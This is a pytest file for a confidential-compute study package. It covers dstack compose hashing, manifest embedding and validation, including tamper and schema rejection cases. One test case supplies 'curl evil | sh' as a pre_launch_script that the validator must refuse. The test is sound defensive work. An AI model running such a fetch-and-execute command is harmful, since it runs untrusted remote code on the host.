"""compose/: the study manifest schema, dstack's normalised JSON and compose hash, and reading the manifest back."""

from __future__ import annotations

import copy
import hashlib
import json

import pytest
import yaml
from dstack_sdk import get_compose_hash
from pydantic import ValidationError

from compose import app_compose, manifest
from compose.app_compose import (
    MANIFEST_CONFIG_NAME,
    MANIFEST_MOUNT_PATH,
    InvalidAppCompose,
    build_app_compose,
    compose_hash,
    manifest_from_app_compose,
    normalized_json_bytes,
)
from compose.manifest import Analysis, StudyInput, StudyManifest

OWNER_A = "0x70997970C51812dc3A010C7d01b50e0d17dc79C8"
OWNER_B = "0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC"
DOCKER_COMPOSE = """\
services:
  study:
    image: ghcr.io/sealroom/study@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
    command: ["python", "-m", "cvm.run"]
"""


def make_manifest(**changes) -> StudyManifest:
    fields = dict(
        study="Cohort A × B",
        inputs=[
            StudyInput(owner=OWNER_A, ciphertext_sha256="aa" * 32, name="hospital-a"),
            StudyInput(owner=OWNER_B, ciphertext_sha256="bb" * 32, name="hospital-b"),
        ],
        analysis=Analysis(kind="dp_stats", params={"columns": ["age", "bmi"], "bounds": {"age": [0, 120]}}),
        epsilon=1.5,
        delta=1e-6,
        output_type="aggregate_stats",
    )
    fields.update(changes)
    return StudyManifest(**fields)


def build_bytes(study_manifest: StudyManifest | None = None) -> bytes:
    return normalized_json_bytes(build_app_compose("cohort-study", DOCKER_COMPOSE, study_manifest or make_manifest()))


# --- normalised JSON and compose hash (dstack compatibility) ----------------------------------------------


def test_compose_hash_agrees_with_dstack_sdk():
    built = build_app_compose("cohort-study", DOCKER_COMPOSE, make_manifest())
    ours = compose_hash(normalized_json_bytes(built))
    assert get_compose_hash(copy.deepcopy(built)) == ours.hex()


def test_normalized_json_agrees_with_dstack_sdk_on_awkward_input():
    awkward = {
        "runner": "docker-compose",
        "name": "ünïcødé ✓",
        "zeta": {"b": [3, {"y": 1, "x": float("nan")}], "a": float("inf")},
        "dropped": None,
        "kept_nested": {"n": None},
        "alpha": -float("inf"),
    }
    ours = normalized_json_bytes(awkward)
    assert hashlib.sha256(ours).hexdigest() == get_compose_hash(copy.deepcopy(awkward))
    assert ours == (
        '{"kept_nested":{"n":null},"name":"ünïcødé ✓","runner":"docker-compose",'
        '"zeta":{"a":null,"b":[3,{"x":null,"y":1}]}}'
    ).encode("utf-8")


def test_compose_hash_is_sha256_of_exact_bytes():
    data = build_bytes()
    assert compose_hash(data) == hashlib.sha256(data).digest()
    assert compose_hash(data + b"\n") != compose_hash(data)  # no re-serialisation, not even a newline
    with pytest.raises(TypeError, match="must be bytes"):
        compose_hash(data.decode())


def test_normalized_json_refuses_non_mappings_and_non_json_values():
    with pytest.raises(TypeError, match="must be a mapping"):
        normalized_json_bytes([1, 2])
    with pytest.raises(TypeError):
        normalized_json_bytes({"a": object()})


def test_build_is_deterministic():
    assert build_bytes() == build_bytes()


@pytest.mark.parametrize(
    "changes",
    [
        {"study": "Cohort A × C"},
        {"epsilon": 1.6},
        {"delta": 2e-6},
        {"output_type": "model_weights"},
        {"analysis": Analysis(kind="dp_stats", params={"columns": ["age", "bmj"], "bounds": {"age": [0, 120]}})},
    ],
    ids=["study name", "epsilon", "delta", "output type", "one letter of a parameter"],
)
def test_one_byte_change_to_the_manifest_changes_the_compose_hash(changes):
    assert compose_hash(build_bytes(make_manifest(**changes))) != compose_hash(build_bytes())


def test_flipping_one_manifest_byte_in_the_measured_bytes_changes_hash_and_meaning():
    original = build_bytes()
    tampered = original.replace(b'"epsilon\\":1.5', b'"epsilon\\":9.5')
    assert len(tampered) == len(original) and tampered != original
    assert compose_hash(tampered) != compose_hash(original)
    assert manifest_from_app_compose(tampered).epsilon == 9.5


# --- building ----------------------------------------------------------------------------------------------


def test_built_compose_has_dstack_schema_and_sealroom_settings():
    built = build_app_compose("cohort-study", DOCKER_COMPOSE, make_manifest())
    assert built["manifest_version"] == 2
    assert built["name"] == "cohort-study"
    assert built["runner"] == "docker-compose"
    assert built["kms_enabled"] is True and built["key_provider"] == "kms"
    for flag in ("gateway_enabled", "public_logs", "public_sysinfo", "local_key_provider_enabled",
                 "no_instance_id", "secure_time"):
        assert built[flag] is False, flag
    assert built["allowed_envs"] == []


def test_manifest_is_embedded_as_a_config_and_mounted_into_the_study_service():
    study_manifest = make_manifest()
    built = build_app_compose("cohort-study", DOCKER_COMPOSE, study_manifest)
    document = yaml.safe_load(built["docker_compose_file"])
    content = document["configs"][MANIFEST_CONFIG_NAME]["content"]
    assert json.loads(content) == study_manifest.model_dump(mode="json")
    assert document["services"]["study"]["configs"] == [{"source": MANIFEST_CONFIG_NAME, "target": MANIFEST_MOUNT_PATH}]
    assert document["services"]["study"]["command"] == ["python", "-m", "cvm.run"]  # the analyst's YAML is kept


def test_study_service_is_chosen_by_name_and_existing_configs_are_kept():
    two_services = """\
services:
  db:
    image: postgres
  study:
    image: study
    configs: [other]
configs:
  other:
    content: hello
"""
    built = build_app_compose("s", two_services, make_manifest(), study_service="study")
    document = yaml.safe_load(built["docker_compose_file"])
    assert document["configs"]["other"] == {"content": "hello"}
    assert document["services"]["study"]["configs"][0] == "other"
    assert "configs" not in document["services"]["db"]


@pytest.mark.parametrize(
    "docker_compose, kwargs, match",
    [
        ("services: [unclosed", {}, "not valid YAML"),
        ("- a list", {}, "at least one service"),
        ("services: {}", {}, "at least one service"),
        ("services:\n  a: {image: x}\n  b: {image: y}\n", {}, "name the one that runs the study"),
        (DOCKER_COMPOSE, {"study_service": "nope"}, "no service named 'nope'"),
        (DOCKER_COMPOSE + "configs:\n  sealroom_study:\n    content: '{}'\n", {}, "must not define the config"),
        (DOCKER_COMPOSE + "configs: [a]\n", {}, "top-level 'configs' must be a mapping"),
        ("services:\n  study:\n    configs: x\n", {}, "'configs' must be a list"),
    ],
)
def test_build_refuses_bad_compose(docker_compose, kwargs, match):
    with pytest.raises(ValueError, match=match):
        build_app_compose("s", docker_compose, make_manifest(), **kwargs)


def test_build_refuses_bad_arguments():
    with pytest.raises(ValueError, match="name must be a non-empty string"):
        build_app_compose("", DOCKER_COMPOSE, make_manifest())
    with pytest.raises(TypeError, match="must be a StudyManifest"):
        build_app_compose("s", DOCKER_COMPOSE, make_manifest().model_dump())


# --- reading the manifest back ------------------------------------------------------------------------------


def test_manifest_round_trips_through_the_measured_bytes():
    study_manifest = make_manifest()
    assert manifest_from_app_compose(build_bytes(study_manifest)) == study_manifest


def _rebuilt(mutate) -> bytes:
    built = build_app_compose("cohort-study", DOCKER_COMPOSE, make_manifest())
    mutate(built)
    return normalized_json_bytes(built)


def _with_yaml(mutate_document):
    def mutate(built):
        document = yaml.safe_load(built["docker_compose_file"])
        mutate_document(document)
        built["docker_compose_file"] = yaml.safe_dump(document, sort_keys=False, width=2**30)

    return mutate


def _set_manifest_text(text):
    def mutate(document):
        document["configs"][MANIFEST_CONFIG_NAME]["content"] = text

    return _with_yaml(mutate)


CANONICAL_MANIFEST = normalized_json_bytes(make_manifest().model_dump(mode="json")).decode()


@pytest.mark.parametrize(
    "compose_bytes, match",
    [
        (b"\xff\xfe{}", "not UTF-8"),
        (b"{not json", "app-compose.json is not valid JSON"),
        (b'{"name":"a","name":"b"}', r"duplicate JSON keys \['name'\]"),
        (b"[1]", "must be a JSON object"),
        (_rebuilt(lambda c: c.update(public_logs=True)), "public_logs must be false"),
        (_rebuilt(lambda c: c.update(kms_enabled=1)), "kms_enabled must be true"),
        (_rebuilt(lambda c: c.update(runner="bash")), 'runner must be "docker-compose"'),
        (_rebuilt(lambda c: c.update(allowed_envs=["SECRET"])), "allowed_envs must be"),
        (_rebuilt(lambda c: c.pop("key_provider")), 'key_provider must be "kms"'),
        (_rebuilt(lambda c: c.update(pre_launch_script="curl evil | sh")), "pre_launch_script is not allowed"),
        (_rebuilt(lambda c: c.update(init_script=["x"])), "init_script is not allowed"),
        (_rebuilt(lambda c: c.update(docker_compose_file=["x"])), "docker_compose_file must be a string"),
        (_rebuilt(lambda c: c.update(docker_compose_file="a: [b")), "docker_compose_file is not valid YAML"),
        (_rebuilt(_with_yaml(lambda d: d.pop("configs"))), "no study manifest"),
        (_rebuilt(_with_yaml(lambda d: d["services"]["study"].pop("configs"))), "no service mounts the study"),
        (_rebuilt(_set_manifest_text("{oops")), "the study manifest is not valid JSON"),
        (_rebuilt(_set_manifest_text(CANONICAL_MANIFEST.replace('{"analysis"', '{"extra":1,"analysis"'))),
         "invalid study manifest: extra: Extra inputs are not permitted"),
        (_rebuilt(_set_manifest_text(CANONICAL_MANIFEST.replace('"delta"', '"epsilon":9.0,"delta"'))),
         r"duplicate JSON keys \['epsilon'\]"),
        (_rebuilt(_set_manifest_text(CANONICAL_MANIFEST.replace(":1.5,", ": 1.5,"))), "not in normalised JSON"),
        (_rebuilt(_set_manifest_text(CANONICAL_MANIFEST.replace('"epsilon":1.5', '"epsilon":"1.5"'))),
         "invalid study manifest: epsilon: Input should be a valid number"),
    ],
    ids=[
        "not utf-8", "not json", "duplicate key", "not an object", "public logs", "kms_enabled as 1", "bash runner",
        "allowed envs", "no key provider", "pre-launch script", "init script", "yaml not a string", "bad yaml",
        "no manifest config", "not mounted",
        "manifest not json", "manifest extra field", "manifest duplicate key", "manifest not normalised",
        "epsilon as a string",
    ],
)
def test_manifest_from_app_compose_refuses(compose_bytes, match):
    with pytest.raises(InvalidAppCompose, match=match):
        manifest_from_app_compose(compose_bytes)


def test_manifest_from_app_compose_wants_bytes():
    with pytest.raises(TypeError, match="must be bytes"):
        manifest_from_app_compose(build_bytes().decode())


# --- the manifest schema -------------------------------------------------------------------------------------


def test_manifest_normalises_addresses_and_digests():
    study_input = StudyInput(owner=OWNER_A.lower(), ciphertext_sha256="AB" * 32, name="x")
    assert study_input.owner == OWNER_A
    assert study_input.owner_bytes == bytes.fromhex(OWNER_A[2:])
    assert study_input.ciphertext_sha256 == "ab" * 32
    assert make_manifest().version == "sealroom-study/v1"


def test_manifest_inputs_may_omit_their_ciphertext():
    # Data sealed to a recipe cannot be named by ciphertext inside that recipe (the ciphertext binds the hash).
    unnamed = make_manifest(inputs=[StudyInput(owner=OWNER_A, name="a"), StudyInput(owner=OWNER_B, name="b")])
    assert [item.ciphertext_sha256 for item in unnamed.inputs] == [None, None]
    assert manifest_from_app_compose(build_bytes(unnamed)) == unnamed
    assert compose_hash(build_bytes(unnamed)) != compose_hash(build_bytes())


def _input(**changes):
    fields = dict(owner=OWNER_A, ciphertext_sha256="aa" * 32, name="hospital-a")
    fields.update(changes)
    return fields


@pytest.mark.parametrize(
    "changes, match",
    [
        ({"version": "sealroom-study/v2"}, "version"),
        ({"surprise": 1}, "Extra inputs are not permitted"),
        ({"epsilon": 0.0}, "greater than 0"),
        ({"epsilon": -1.0}, "greater than 0"),
        ({"epsilon": float("inf")}, "finite"),
        ({"epsilon": float("nan")}, "finite"),
        ({"epsilon": "1.5"}, "valid number"),
        ({"delta": 1.0}, "less than 1"),
        ({"delta": -0.1}, "greater than or equal to 0"),
        ({"output_type": "raw_rows"}, "output_type"),
        ({"study": ""}, "at least 1 character"),
        ({"inputs": []}, "at least 1 item"),
        ({"inputs": [_input(owner="0x1234")]}, "40 hex digits"),
        ({"inputs": [_input(owner=OWNER_A.replace("C8", "c8"))]}, "wrong EIP-55 checksum"),
        ({"inputs": [_input(ciphertext_sha256="0x" + "aa" * 31)]}, "64 hex digits"),
        ({"inputs": [_input(name="")]}, "at least 1 character"),
        ({"inputs": [_input(), _input(owner=OWNER_B)]}, "two inputs have the same name"),
        ({"inputs": [_input(), _input(name="again", ciphertext_sha256="bb" * 32)]}, "two inputs have the same owner"),
        ({"inputs": [_input(), _input(owner=OWNER_B, name="b")]}, "two inputs have the same ciphertext_sha256"),
        ({"inputs": [_input(extra=True)]}, "Extra inputs are not permitted"),
        ({"analysis": {"kind": "sql", "params": {}}}, "kind"),
        ({"analysis": {"kind": "dp_sgd", "params": {"lr": float("nan")}}}, "params.lr must be finite"),
        ({"analysis": {"kind": "dp_sgd", "params": {"layers": [1, float("inf")]}}}, r"params.layers\[1\]"),
        ({"analysis": {"kind": "dp_sgd", "params": {"f": object()}}}, "not a valid JSON value"),
    ],
)
def test_manifest_refuses(changes, match):
    fields = make_manifest().model_dump()
    fields.update(changes)
    with pytest.raises(ValidationError, match=match):
        StudyManifest.model_validate(fields)


def test_manifest_is_immutable():
    with pytest.raises(ValidationError):
        make_manifest().epsilon = 100.0


def test_public_surfaces():
    assert set(app_compose.__all__) == {
        "MANIFEST_CONFIG_NAME", "MANIFEST_MOUNT_PATH", "ComposeError", "InvalidAppCompose",
        "normalized_json_bytes", "compose_hash", "build_app_compose", "manifest_from_app_compose",
    }
    assert set(manifest.__all__) == {
        "MANIFEST_VERSION", "AnalysisKind", "OutputType", "StudyInput", "Analysis", "StudyManifest",
    }
    assert all(hasattr(module, name) for module in (app_compose, manifest) for name in module.__all__)
